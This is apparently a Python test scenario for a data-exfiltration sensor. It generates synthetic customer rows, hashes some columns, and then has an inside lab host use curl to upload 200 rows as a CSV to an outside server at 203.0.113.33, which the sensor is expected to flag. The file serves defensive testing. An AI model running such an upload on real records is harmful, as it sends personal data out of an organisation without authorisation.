# SPDX-License-Identifier: Apache-2.0
"""Two hundred rows of a table whose values the sensor knows as keyed hashes."""
import registers
from people import as_csv
from scenario import CONTENT_S, People, Scenario

SCENARIO = Scenario('200 rows of a registered set', ('D18', ), 'high', allowed=('D01', 'D02', 'D07'),
                    explains=('rows', ), within_s=CONTENT_S, people=People(200, ('203.0.113.', )),
                    registers=registers.TWO_COLUMNS, needs=('nginx', 'curl'), commitments=('C3a', 'C11'))


def make(lab):
    lab.outside.serve_web()
    rows = registers.customers(lab, 5_000)
    registers.hash_columns(lab.folder, rows)
    path = lab.inside.file('rows.csv', as_csv(rows[700:900]))
    lab.mark()
    lab.inside.curl('--upload-file', path, '--header', 'Content-Type: text/csv', 'http://203.0.113.33/in/rows',
                    source='10.30.0.9')
